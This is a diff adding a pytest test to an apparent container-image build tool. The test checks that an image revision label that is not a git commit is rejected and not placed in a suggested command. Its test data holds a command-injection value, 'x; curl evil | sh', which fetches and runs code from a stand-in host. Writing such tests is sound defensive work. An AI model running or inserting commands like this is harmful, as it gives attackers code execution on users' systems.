@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 from collections.abc import Callable
 from pathlib import Path
 from types import SimpleNamespace
@@ -142,3 +143,13 @@ def test_an_image_of_another_tarball_or_tool_cannot_be_built_again(
         published(image("3.13"), "sha256:1", **{"source.sha256": "0" * 64}).select(catalog)
     with pytest.raises(InputError, match="no labels of this tool"):
         published(image("3.13"), "sha256:1", target="").select(catalog)
+
+
+def test_a_revision_that_is_not_a_commit_is_no_part_of_a_command_to_type(
+    catalog: Catalog, image: Callable[..., Image]
+) -> None:
+    remote = published(image("3.13"), "sha256:1", **{"source.sha256": "0" * 64})
+    config: Any = {"config": {"Labels": {**remote.labels, "org.opencontainers.image.revision": "x; curl evil | sh"}}}
+    with pytest.raises(InputError) as error:
+        dataclasses.replace(remote, config=config).select(catalog)
+    assert error.value.hint.endswith("git checkout COMMIT")
